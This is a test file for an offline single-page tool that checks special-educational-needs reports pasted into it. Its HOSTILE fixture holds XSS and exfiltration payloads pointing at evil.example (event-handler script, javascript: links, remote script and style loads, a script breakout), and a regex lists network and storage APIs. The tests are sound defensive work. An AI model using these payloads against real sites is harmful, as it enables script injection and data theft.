// The report desk as it ships: one file, opened from disk with no network, driven as an office manager would.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import { policyOf, safeInScript, smallStyle } from '../../.config/desk-page.js';
import { reportItems } from '../../dist/esm/report/index.js';
import { axeFindings, openChromium, watch } from '../support/chromium.js';
import { root } from '../support/files.js';

const path = join(root, 'dist/sen-report-desk.html');
const page = readFileSync(path, 'utf8');
const address = pathToFileURL(path).href;

const part = (name) => new RegExp(`<${name}>([^]*?)</${name}>`).exec(page)?.[1] ?? '';
const hashOf = (text) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const policy = /Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1] ?? '';

const REPORT = `<h1>SEN information</h1><p>Welcome to Larkmere.</p>
<h2>What kinds of special educational needs do you provide for?</h2>
<p>We teach children with speech and language needs, autistic children, deaf children, and children with dyslexia, in every class of the school.</p>
<h2>Our garden</h2><p>Vegetables &amp; newts.</p>`;

const HOSTILE = `<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";</style>
<h2>How will you teach my child?</h2>
<p style="background:url(https://evil.example/c.png)"><img src=x onerror="globalThis.bad=1"><img srcset="https://evil.example/d.png 2x">
<script>globalThis.bad=1</script><script src="https://evil.example/e.js"></script><svg><image href="https://evil.example/f.png"/></svg>
<iframe srcdoc="<script>parent.bad=1</script>"></iframe><video src="https://evil.example/g.mp4" autoplay></video>
<a href="javascript:globalThis.bad=1">Here</a> <a href="&#106;avascript:globalThis.bad=1">and here</a>
<form action="https://evil.example/"><input autofocus onfocus="globalThis.bad=1"></form><template><img src="https://evil.example/h.png"></template></p></script><script>globalThis.bad=1</script>`;

describe('the file of the report desk', () => {
  it('lets only its own script and style run, and nothing be loaded or sent', () => {
    assert.equal(policy, policyOf(part('script'), part('style'), 'local-offer-sen-report-desk').replaceAll('"', '&quot;'));
    assert.ok(policy.startsWith("default-src 'none'; script-src 'sha256-"), policy);
    for (const name of ['script', 'style']) assert.ok(policy.includes(`${name}-src ${hashOf(part(name))};`), name);
    assert.match(policy, /form-action 'none'.*require-trusted-types-for 'script'/);
    assert.ok(page.indexOf('Content-Security-Policy') < page.indexOf('<style>'));
  });

  it('has one script and one sheet in it, names no other file, and stores nothing', () => {
    assert.equal(page.match(/<script/g)?.length, 1);
    const around = page.replace(part('script'), '');
    assert.doesNotMatch(around, /\s(?:src|action|data|poster)=|(?<!icon")\shref=|@import|url\(/);
    assert.doesNotMatch(page, /localStorage|sessionStorage|indexedDB|document\.cookie|XMLHttpRequest|sendBeacon|\bfetch\(/);
    assert.ok(!/[^\t\n\r -~]/.test(part('script')), 'more than ASCII');
  });

  it('is made with nothing in it that could end its script', () => {
    const says = (code) => new Function(`return ${safeInScript(code)}`)();
    for (const text of ['</script>', '</SCRIPT >', '<!-- <script>', '<script']) {
      assert.equal(says(JSON.stringify(text)), text);
      assert.doesNotMatch(safeInScript(JSON.stringify(text)), /<(?:\/script|script|!--)/i);
    }
    assert.ok(says('/<\\/script|<!--/u').test('<!--'));
    assert.equal(smallStyle('/* why */\na > b,\nc:is(d, e) {\n  f: g h;\n}\n'), 'a > b,c:is(d,e){f:g h}');
  });
});

describe('the report desk, opened from disk with no network', () => {
  let browser;
  let context;
  let tab;
  let troubles;
  let asked;

  before(async () => {
    browser = await openChromium();
    context = await browser.newContext({ offline: true, viewport: { width: 1000, height: 900 } });
    tab = await context.newPage();
    troubles = watch(tab);
    asked = [];
    tab.on('request', (request) => asked.push(request.url()));
    await tab.goto(address);
  });
  after(() => browser?.close());

  /** Copies from a page of its own, then pastes with the keyboard: the clipboard is the computer's. */
  async function paste(html) {
    await tab.evaluate((markup) => {
      const give = (event) => {
        event.clipboardData.setData('text/html', markup);
        event.clipboardData.setData('text/plain', markup.replace(/<[^>]*>/g, ' '));
        event.preventDefault();
      };
      globalThis.give = give;
      document.addEventListener('copy', give, { once: true, capture: true });
    }, html);
    await tab.locator('#report-box').fill('');
    await tab.locator('#report-box').press('Control+c');
    await tab.locator('#report-box').press('Control+v');
  }

  /** What the computer's clipboard holds, as another program would take it. */
  async function clipboard() {
    await tab.evaluate(() => {
      globalThis.pasted = undefined;
      const take = (event) => {
        const { clipboardData: data } = event;
        globalThis.pasted = { html: data.getData('text/html'), words: data.getData('text/plain') };
        event.preventDefault();
        event.stopImmediatePropagation();
      };
      document.addEventListener('paste', take, { once: true, capture: true });
    });
    await tab.locator('#report-box').press('Control+v');
    return tab.evaluate(() => globalThis.pasted);
  }

  const words = (selector) => tab.locator(selector).allInnerTexts();
  const press = (name) => tab.getByRole('button', { name, exact: true }).click();

  it('copies a template with every heading', async () => {
    await press('Copy the template');
    await tab.getByText('Copied the template.').first().waitFor();
    const { html, words: plain } = await clipboard();
    for (const { question } of reportItems('mainstream')) {
      assert.ok(plain.includes(question), question);
      assert.match(html, /<h2/);
    }
  });

  it('checks what is pasted, lets a heading be put right, and copies it back', async () => {
    await paste(REPORT);
    assert.match((await words('.summary p'))[0], /^\d+ of 23 required headings have nothing under them yet\.$/);
    const missing = await words('.group.missing h5');
    assert.ok(!missing.includes('Needs we provide for'), missing.join());
    assert.ok(missing.includes('Equipment and facilities'), missing.join());
    await tab.getByLabel('What “Our garden” is about').selectOption({ label: 'Equipment and facilities' });
    assert.ok(!(await words('.group.missing h5')).includes('Equipment and facilities'));
    await press('Copy the report');
    await tab.getByText('Copied the report.').first().waitFor();
    const { html, words: plain } = await clipboard();
    for (const one of ['Welcome to Larkmere.', 'autistic children', 'Our garden', 'Vegetables & newts.'])
      assert.ok(plain.includes(one), `${one} is not in ${plain}`);
    assert.match(html, /<h2[^>]*>[^<]*Our garden/);
    await press('Copy as HTML code');
    await tab.getByText('Copied the HTML code.').first().waitFor();
    assert.match((await clipboard()).words, /<h2 data-item="sir-1">/);
  });

  it('prints the check alone', async () => {
    await tab.emulateMedia({ media: 'print' });
    const seen = async (selector) => tab.locator(selector).first().isVisible();
    assert.deepEqual(
      await Promise.all(['.printed', '.results', '.masthead', '.step.template', '#report-box', '.step.back'].map(seen)),
      [true, true, false, false, false, false],
    );
    await tab.emulateMedia({ media: null });
  });

  it('has no faults that axe knows of', async () => {
    assert.deepEqual(await axeFindings(tab, 'html'), []);
  });

  for (const width of [320, 768, 1280])
    it(`fits ${width} pixels`, async () => {
      await tab.setViewportSize({ width, height: 800 });
      const wide = await tab.evaluate(() => document.documentElement.scrollWidth);
      assert.ok(wide <= width, `${wide} wide`);
    });

  it('runs and loads nothing of a hostile page', async () => {
    for (const html of [HOSTILE, HOSTILE.replaceAll('<', '&lt;')]) {
      await paste(html);
      await tab.evaluate(() => document.querySelectorAll('details').forEach((details) => (details.open = true)));
      await tab.waitForTimeout(300);
      assert.equal(await tab.evaluate(() => globalThis.bad), undefined);
      assert.equal(tab.url(), address);
    }
  });

  it('has asked for no file but itself, and had no trouble', () => {
    assert.deepEqual(asked.filter((url) => url !== address && url !== 'data:,'), []);
    // The page itself is not of this computer's server.
    assert.deepEqual([...troubles].filter((words) => !words.endsWith(address)), []);
  });
});
